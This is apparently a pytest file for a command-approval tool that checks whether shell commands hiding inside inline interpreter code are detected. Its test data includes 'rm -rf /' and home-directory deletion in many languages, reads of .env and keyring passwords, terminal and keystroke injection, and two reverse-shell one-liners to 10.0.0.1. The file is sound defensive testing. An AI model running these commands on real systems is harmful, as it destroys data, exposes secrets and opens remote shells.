"""Interpreters with inline code: what the code runs, deletes, writes and reads."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from approvald.shell import DYNAMIC_NAME
from tests.support.shell import has_git_push, programs, run, show

RUNS_GIT_PUSH = [
    "python3 -c 'import os; os.system(\"git push\")'",
    "python -c \"import subprocess; subprocess.run(['git', 'push'])\"",
    "python3 -c \"__import__('subprocess').check_call('git push', shell=True)\"",
    "python3 -c \"from subprocess import run; run(['git','push'])\"",
    "python3 -c 'import pty; pty.spawn([\"git\", \"push\"])'",
    "python3 -c \"exec('import os; os.system(\\\"git push\\\")')\"",
    "python3 -Bc 'import os; os.system(\"git push\")'",
    "python3 - <<'EOF'\nimport os\nos.system('git push')\nEOF",
    "echo 'import os; os.system(\"git push\")' | python3",
    "perl -e 'system(\"git push\")'", "perl -e 'system \"git\", \"push\"'",
    "perl -e '`git push`'", "perl -e 'exec qw(git push)'",
    "perl -ne 'print; system(\"git push\")' f",
    "ruby -e 'system(\"git push\")'", "ruby -e '`git push`'", "ruby -e '%x(git push)'",
    "node -e \"require('child_process').execSync('git push')\"",
    "node -e \"require('child_process').spawnSync('git', ['push'])\"",
    "node --eval \"require('child_process').exec('git push')\"",
    "bun -e \"Bun.spawnSync(['git', 'push'])\"",
    "deno eval \"new Deno.Command('git', {args: ['push']}).outputSync()\"",
    "php -r 'system(\"git push\");'", "php -r 'echo `git push`;'",
    "lua -e 'os.execute(\"git push\")'",
    "awk 'BEGIN { system(\"git push\") }'", "awk 'BEGIN { print \"x\" | \"git push\" }'",
    "gawk 'BEGIN { while ((\"git push\" | getline l) > 0) print l }'",
    "sed -n '1e git push' f", "sed 's/.*/git push/e' f", "vim -c '!git push' -c q",
    "vim +'silent !git push' +q", "nvim --headless -c 'call system(\"git push\")' -c q",
    "osascript -e 'do shell script \"git push\"'",
    "expect -c 'spawn git push; expect eof'", "Rscript -e 'system(\"git push\")'",
    "pwsh -Command 'git push'",
]


@pytest.mark.parametrize("line", RUNS_GIT_PUSH)
def test_code_that_runs_a_literal_command_is_analysed(line: str) -> None:
    assert has_git_push(run(line)), show(run(line))


@pytest.mark.parametrize("line", [
    "python3 -c 'import os,sys; os.system(sys.argv[1])' x",
    "python3 -c \"exec(__import__('base64').b64decode('eA=='))\"",
    "node -e 'eval(process.argv[1])'", "perl -e 'system($ARGV[0])'",
    "ruby -e 'system(ARGV[0])'", "awk '{ system($0) }' f", "sed e f",
    "osascript -e 'do shell script \"rm \" & f'",
])
def test_code_that_runs_something_only_known_at_run_time_is_dynamic(line: str) -> None:
    analysis = run(line)
    assert any(c.dynamic == DYNAMIC_NAME for c in analysis.commands), show(analysis)


@pytest.mark.parametrize("line", [
    "julia -e 'run(`rm -rf /`)'", "julia --project=. -O2 -e '1 + 1'", "julia -E 'x'",
    "echo 'run(`ls`)' | julia", "elixir -pa ebin -e 'System.cmd(\"rm\", [\"-rf\", \"/\"])'",
    "erl -noshell -eval 'os:cmd(\"rm -rf /\")' -s init stop",
    "racket -e '(system \"rm -rf /\")'", "guile -c '(system \"rm -rf /\")'",
    "sbcl --eval '(run-program \"/bin/rm\" (list \"-rf\" \"/\"))'",
    "groovy -e '\"rm -rf /\".execute()'", "scala -cp x -e 'sys.process.Process(\"rm\").!'",
    "kotlin -e 'Runtime.getRuntime().exec(\"rm -rf /\")'",
    "printf 'run(`ls`)' > /tmp/x.jl && julia /tmp/x.jl",
    "julia -e'run(`rm -rf /`)'", "julia -ie 'x'", "julia -H /tmp -e 'x'", "julia --eva 'x'",
    "julia --startup-file no -e 'x'", "julia -E'x'", "elixir --ev 'x'", "racket -ie '(x)'",
    "racket -I racket -e '(x)'", "guile -c'(x)'", "guile -x .scm -c '(x)'",
    "sbcl --dynamic-space-size 100 --eval '(x)'", "clisp -x '(x)'", "groovy -e'x'",
    "kotlin -e'x'", "kotlinc -e 'x'", "clojure -M -e '(x)'", "bb -e '(x)'", "echo x | jshell",
    "jrunscript -e 'x'", "scala-cli -e 'x'", "erl -noshell -run os cmd 'rm -rf /' -s init stop",
    "raku -e 'shell q[rm -rf /]'", "perl6 -ne 'x' f", "raku -e'x'",
    "ghc -e 'System.Process.system \"rm -rf /\"'", "ghci -e 'x'",
    "octave --eval 'system(\"rm -rf /\")'", "octave-cli --path /tmp --eval 'x'",
    "emacs --batch --eval '(shell-command \"rm -rf /\")'", "emacs -Q -execute '(x)'",
    "mix run -e 'File.rm_rf!(\"/\")'", "mix run --eval 'x'", "crystal eval 'system \"x\"'",
    "echo x | crystal eval", "crystal e 'system \"x\"'", "crystal ev 'x'",
    "emacsclient -e '(shell-command \"rm -rf /\")'", "emacsclient -n --eval '(x)'",
    "echo 'import System.Process' | ghci", "echo 'system \"x\"' | crystal i",
    "echo x | crystal interactive", "echo 'System.IO.File.Delete \"x\"' | dotnet fsi",
    "echo x | dotnet fsi --quiet",
])
def test_code_in_a_language_approvald_does_not_read_is_dynamic(line: str) -> None:
    analysis = run(line)
    ran = [c for c in analysis.commands if c.program in (
        "julia", "elixir", "erl", "racket", "guile", "sbcl", "groovy", "scala", "kotlin",
        "clisp", "kotlinc", "clojure", "bb", "jshell", "jrunscript", "scala-cli", "raku",
        "perl6", "ghc", "ghci", "octave", "octave-cli", "emacs", "emacsclient", "mix",
        "crystal", "dotnet")]
    assert ran and all(c.dynamic == DYNAMIC_NAME for c in ran), show(analysis)
    assert any("which approvald does not read" in d for d in analysis.dynamic), show(analysis)


@pytest.mark.parametrize("line", [
    "julia --version", "julia", "julia script.jl", "scala -version", "erl", "kotlin -version",
    "elixir --version", "racket", "guile --help", "julia -O2 -t4 script.jl",
    "julia --project=. -t 4 script.jl a b", "scala -Dfile.encoding=UTF-8 -cp x Main",
    "guile --no-auto-compile x.scm", "racket -l racket/base x.rkt", "clisp -q -norc x.lisp",
    "kotlinc x.kt -include-runtime -d x.jar", "clojure -M:dev", "bb --version",
    "raku script.raku", "ghc -O2 Main.hs", "runghc x.hs", "octave script.m", "emacs notes.txt",
    "emacs --batch -l ert -l tests.el -f ert-run-tests-batch-and-exit", "mix test",
    "mix run priv/seeds.exs", "crystal build src/main.cr", "crystal spec",
    "crystal spec -e 'parses x'", "emacsclient -n notes.txt",
    "printf 'main' > Main.hs && ghc Main.hs", "echo hi > n.txt && emacs n.txt",
    "ghci", "ghci x.hs", "echo x | ghc Main.hs", "crystal i", "crystal i x.cr", "dotnet fsi",
    "dotnet fsi script.fsx", "echo x | dotnet fsi x.fsx", "echo x | dotnet test",
])
def test_those_languages_with_no_code_given_are_not(line: str) -> None:
    analysis = run(line)
    assert not any(c.dynamic for c in analysis.commands), show(analysis)


@pytest.mark.parametrize("line", [
    "python3 -c \"import shutil,os; shutil.rmtree(os.path.expanduser('~'))\"",
    "python3 -c 'import shutil, pathlib; shutil.rmtree(pathlib.Path.home())'",
    "node -e \"require('fs').rmSync(require('os').homedir(), {recursive: true})\"",
    "perl -MFile::Path -e 'rmtree($ENV{HOME})'",
    "ruby -rfileutils -e 'FileUtils.rm_rf(Dir.home)'",
])
def test_recursive_deletion_of_home_from_code_is_rm_rf_home(line: str) -> None:
    analysis = run(line)
    assert any(c.program == "rm" and "-rf" in c.args and "/home/u" in c.args
               for c in analysis.commands), show(analysis)


def test_files_written_and_read_by_code_are_redirects() -> None:
    analysis = run("python3 -c \"open('.claude/settings.json','w').write('{}')\"")
    assert "/repo/.claude/settings.json" in analysis.writes
    analysis = run("python3 -c \"print(open('.env').read())\"")
    assert "/repo/.env" in analysis.reads
    analysis = run("jq . .claude/settings.json")
    assert not analysis.writes


@pytest.mark.parametrize(("line", "finding"), [
    ("python3 -c 'import fcntl,termios; fcntl.ioctl(0, termios.TIOCSTI, b\"y\")'",
     "tty-injection"),
    ("perl -e 'ioctl(STDIN, 0x5412, $_) for split //, \"y\\n\"'", "tty-injection"),
    ("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
     "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", "reverse-shell"),
    ("ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",1234).to_i;exec sprintf(\"/bin/sh -i "
     "<&%d >&%d 2>&%d\",f,f,f)'", "reverse-shell"),
    ("python3 -c 'import keyring; print(keyring.get_password(\"svc\", \"u\"))'", "keyring"),
    ("python3 -c 'from approvald.cli import main; main([\"approvals\"])'", "approvald-import"),
    ("osascript -e 'tell application \"System Events\" to keystroke \"y\"'", "keystrokes"),
])
def test_findings(line: str, finding: str) -> None:
    analysis = run(line)
    assert any(finding in c.findings for c in analysis.commands), show(analysis)


def test_keyring_read_from_code_is_keyring_get() -> None:
    analysis = run("python3 -c 'import keyring; keyring.get_password(\"a\", \"b\")'")
    assert any(c.program == "keyring" and c.args[:1] == ("get",) for c in analysis.commands)


def test_python_m_runs_the_module() -> None:
    analysis = run("python3 -m twine upload dist/*")
    assert [c.program for c in analysis.commands] == ["python3", "twine"]
    assert run("python -m approvald.cli approvals approve x").commands[-1].program == "approvald"


@pytest.mark.parametrize("line", [
    "python3 -c 'print(\"git push\")'", "python -c 'import sys; print(sys.version)'",
    "python3 -c 'import platform; print(platform.system())'",
    "node -e 'console.log(\"rm -rf ~\")'", "perl -pe 's/git push/x/' f",
    "awk '{print $1}' f", "sed -i 's/a/b/' f", "ruby -e 'puts \"system(1)\"'",
    "python3 -c 'import re; print(re.compile(\"x\").sub(\"y\", \"x\"))'",
    "node -e 'console.log(/a/.exec(\"a\"))'",
])
def test_harmless_code_adds_nothing(line: str) -> None:
    analysis = run(line)
    assert len(programs(analysis)) == 1 and not analysis.dynamic, show(analysis)


_HOME_ALPHABET = "$#{}()[]'\"~ ._:/\\HOMEhomUSERPFILDirENVdtgpaxqnfchr"


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(alphabet=_HOME_ALPHABET, max_size=40))
def test_home_references_need_a_word_the_quick_check_looks_for(text: str) -> None:
    """normalize_home skips code without HOME, home, ~ or USERPROFILE: no reference to the
    home directory it rewrites can be spelled without one of them."""
    from approvald.shell.code.scan import _HOME_REFS

    if any(word in text for word in ("HOME", "home", "~", "USERPROFILE")):
        return
    assert all(pattern.search(text) is None for _, pattern in _HOME_REFS)


@pytest.mark.parametrize("line", ["ts-node -e 'require(\"child_process\").execSync(\"rm -rf /\")'",
                                  "tsx -e 'require(\"child_process\").execSync(\"rm -rf /\")'"])
def test_typescript_runners_code_is_scanned_as_javascript(line: str) -> None:
    analysis = run(line)
    assert any(c.program == "rm" and "/" in c.args for c in analysis.commands), show(analysis)
